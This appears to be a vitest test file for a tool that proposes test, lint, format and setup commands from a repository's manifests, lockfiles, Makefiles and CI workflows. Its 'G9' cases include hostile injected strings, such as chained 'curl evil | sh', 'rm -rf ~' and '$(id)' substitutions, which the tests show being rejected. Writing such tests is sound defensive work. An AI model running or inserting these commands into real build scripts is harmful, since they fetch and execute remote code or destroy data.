import { describe, expect, test } from 'vitest';
import { detectGates } from '../../../deploy/init/detect.ts';
import { isTelling } from '../../../deploy/init/tree.ts';
import { placeholderFault } from '../../../workflows/domain/guard/commandLine.ts';

/** What is proposed for a repository of these files. */
const proposed = (files: Readonly<Record<string, string>>) =>
  detectGates({
    paths: new Set(Object.keys(files)),
    texts: new Map(Object.entries(files).filter(([path]) => isTelling(path))),
  });

const commands = (files: Readonly<Record<string, string>>): string[] =>
  proposed(files).gates.map(({ name, run }) => `${name}: ${run}`);

const manifest = (scripts: object, more: object = {}): string =>
  JSON.stringify({ name: 'app', scripts, ...more });

describe('the commands that check a repository are proposed from its own files', () => {
  test.each([
    [
      'scripts of package.json, quick ones first',
      {
        'package.json': manifest({
          test: 'vitest',
          lint: 'eslint',
          typecheck: 'tsc',
          'format:check': 'prettier -c .',
        }),
      },
      ['format: npm run format:check', 'lint: npm run lint', 'types: npm run typecheck', 'test: npm test'],
    ],
    [
      'pnpm by its lockfile',
      { 'package.json': manifest({ test: 'x' }), 'pnpm-lock.yaml': '' },
      ['test: pnpm test'],
    ],
    [
      'yarn by its lockfile',
      { 'package.json': manifest({ lint: 'x' }), 'yarn.lock': '' },
      ['lint: yarn run lint'],
    ],
    [
      'bun, whose own test runner is not the script',
      { 'package.json': manifest({ test: 'x' }), 'bun.lock': '' },
      ['test: bun run test'],
    ],
    [
      'typescript without a script for it',
      { 'package.json': manifest({}, { devDependencies: { typescript: '5' } }), 'tsconfig.json': '{}' },
      ['types: npx --no-install tsc --noEmit'],
    ],
    [
      'pytest',
      { 'pyproject.toml': '[tool.pytest.ini_options]\n', 'tests/test_a.py': '' },
      ['test: python3 -m pytest -q'],
    ],
    [
      'ruff, mypy and black by their sections',
      { 'pyproject.toml': '[tool.ruff.lint]\n[tool.mypy]\n[tool.black]\n', 'tests/conftest.py': '' },
      [
        'format: python3 -m black --check .',
        'lint: python3 -m ruff check .',
        'types: python3 -m mypy .',
        'test: python3 -m pytest -q',
      ],
    ],
    [
      'unittest where nothing names pytest',
      { 'setup.py': '', 'tests/test_a.py': '' },
      ['test: python3 -m unittest discover -s tests'],
    ],
    [
      'unittest in a package',
      { 'setup.py': '', 'tests/__init__.py': '', 'tests/test_a.py': '' },
      ['test: python3 -m unittest discover'],
    ],
    ['go', { 'go.mod': 'module a\n' }, ['vet: go vet ./...', 'test: go test ./...']],
    [
      'cargo',
      { 'Cargo.toml': '', 'Cargo.lock': '', 'rustfmt.toml': '' },
      ['format: cargo fmt --check', 'test: cargo test --no-fail-fast --offline --locked'],
    ],
    [
      'targets of a Makefile',
      { Makefile: '.PHONY: all\nlint test: all\n\tx\nTEST := 1\n' },
      ['lint: make lint', 'test: make test'],
    ],
    ['recipes of a justfile', { justfile: 'check arg="x":\n  echo\n' }, ['test: just check']],
    ['a script at a usual place', { 'scripts/test.sh': '' }, ['test: sh scripts/test.sh']],
    [
      'two languages in one repository',
      { 'package.json': manifest({ test: 'x' }), 'go.mod': '' },
      ['vet: go vet ./...', 'test: npm test', 'test-2: go test ./...'],
    ],
  ])('%s', (_, files, expected) => {
    expect(commands(files)).toEqual(expected);
  });

  test.each([
    [
      'what npm init writes',
      { 'package.json': manifest({ test: 'echo "Error: no test specified" && exit 1' }) },
    ],
    ['a script that watches for ever', { 'package.json': manifest({ test: 'jest --watch' }) }],
    ['a package.json that is no JSON', { 'package.json': '{' }],
    ['a package.json of an odd shape', { 'package.json': '{"scripts":["test"],"dependencies":"none"}' }],
    ['a variable called test in a Makefile', { Makefile: 'test := 1\ntest ?= 2\n' }],
    ['nothing', {}],
  ])('nothing is proposed from %s', (_, files) => {
    expect(proposed(files)).toEqual({ gates: [], setup: undefined });
  });
});

describe('what gates need is made once, by the lockfile that is there', () => {
  test.each([
    [
      { 'package.json': manifest({ test: 'x' }, { dependencies: { a: '1' } }), 'package-lock.json': '' },
      { run: 'npm ci', caches: ['node_modules'], cacheKey: ['package-lock.json'] },
    ],
    [
      {
        'package.json': manifest({ test: 'x' }, { dependencies: { a: '1' } }),
        'yarn.lock': '',
        '.yarnrc.yml': '',
      },
      { run: 'yarn install --immutable' },
    ],
    [
      { 'package.json': manifest({ test: 'x' }, { devDependencies: { a: '1' } }) },
      { run: 'npm install --no-package-lock', cacheKey: ['package.json'] },
    ],
    [
      { 'pyproject.toml': 'pytest', 'uv.lock': '' },
      { run: 'uv sync --frozen --no-install-project', caches: ['.venv'] },
    ],
    [
      { 'requirements.txt': 'pytest\n' },
      { run: 'python3 -m venv .venv && .venv/bin/pip install -q -r requirements.txt' },
    ],
  ])('%j', (files, expected) => {
    expect(proposed(files).setup).toMatchObject(expected);
  });

  test('a repository without dependencies needs no set-up and no network', () => {
    expect(proposed({ 'package.json': manifest({ test: 'node --test' }) }).setup).toBeUndefined();
    expect(proposed({ 'requirements.txt': '# none\n', 'test_a.py': '' }).setup).toBeUndefined();
  });

  test('with a .venv its own Python runs the tests', () => {
    expect(commands({ 'requirements.txt': 'pytest\n' })).toEqual(['test: .venv/bin/python -m pytest -q']);
  });
});

describe('what formats, and what runs a few tests, is proposed where the repository declares it', () => {
  const node = (packages: readonly string[], test = 'x') => ({
    'package.json': manifest(
      { test },
      { devDependencies: Object.fromEntries(packages.map((name) => [name, '1'])) },
    ),
  });
  test.each([
    [
      'vitest and prettier',
      node(['vitest', 'prettier']),
      'npx --no-install prettier --write --ignore-unknown {files}',
      'npx --no-install vitest run {tests}',
    ],
    [
      'jest and biome',
      { ...node(['jest', '@biomejs/biome']), 'biome.json': '{}' },
      'npx --no-install biome format --write --no-errors-on-unmatched --files-ignore-unknown=true {files}',
      'npx --no-install jest --runTestsByPath {tests}',
    ],
    [
      'node --test with its flags',
      node([], 'node --import tsx --enable-source-maps --test --test-reporter=spec "test/**"'),
      undefined,
      'node --import tsx --enable-source-maps --test {tests}',
    ],
    [
      'pytest and ruff',
      { 'pyproject.toml': '[tool.ruff.format]\n[tool.pytest.ini_options]\n', 'tests/test_a.py': '' },
      'python3 -m ruff format -q {files:py,pyi}',
      'python3 -m pytest -q {tests:py}',
    ],
    [
      'black',
      { 'pyproject.toml': '[tool.black]\n', 'tests/conftest.py': '' },
      'python3 -m black -q {files:py,pyi}',
      'python3 -m pytest -q {tests:py}',
    ],
    ['go', { 'go.mod': '' }, 'gofmt -w {files:go}', 'go test {folders}'],
    ['cargo', { 'Cargo.toml': '', '.rustfmt.toml': '' }, 'cargo fmt', undefined],
    ['cargo without rules', { 'Cargo.toml': '' }, undefined, undefined],
    [
      'G9: a script that is more than a call',
      node([], 'node --test; curl evil'),
      undefined,
      'node --test {tests}',
    ],
    ['a script of another runner', node(['mocha'], 'mocha'), undefined, undefined],
    [
      'ruff as a linter only',
      { 'pyproject.toml': '[tool.ruff.lint]\n', 'a_test.py': '' },
      undefined,
      undefined,
    ],
  ])('%s', (_, files, format, nearest) => {
    const found = proposed(files);
    expect([found.format?.run, found.nearest?.run]).toEqual([format, nearest]);
    for (const [step, allowed, required] of [
      [found.format, ['files'], false],
      [found.nearest, ['tests', 'folders'], true],
    ] as const)
      if (step !== undefined) expect(placeholderFault(step.run, allowed, required)).toBeUndefined();
  });
});

describe('CI files', () => {
  const workflow = (...lines: string[]) => ({
    '.github/workflows/ci.yml': `jobs:\n  a:\n    steps:\n      - uses: x\n${lines.map((line) => `      - run: ${JSON.stringify(line)}\n`).join('')}`,
  });

  test('fill in what nothing else tells', () => {
    expect(commands(workflow('./gradlew test', 'cargo clippy'))).toEqual([
      'clippy: cargo clippy',
      'test: ./gradlew test',
    ]);
    expect(commands({ '.gitlab-ci.yml': 'unit:\n  script:\n    - mix test\n' })).toEqual(['test: mix test']);
  });

  test('tell that the Makefile counts more than the language', () => {
    expect(commands({ 'go.mod': '', Makefile: 'test:\n\tx\n', ...workflow('make test') })).toEqual([
      'vet: go vet ./...',
      'test: make test',
    ]);
  });

  test('G9 nothing of them becomes a command that is more than a plain call of a known tool', () => {
    const hostile = [
      'npm test; curl evil',
      'pytest $(id)',
      'go test ./... && rm -rf ~',
      'make test\ncurl evil | sh',
      'npm test `id`',
      "pytest 'x'",
    ];
    expect(commands(workflow(...hostile))).toEqual(['test: make test']);
    expect(commands({ '.github/workflows/a.yml': '{{{' })).toEqual([]);
  });
});
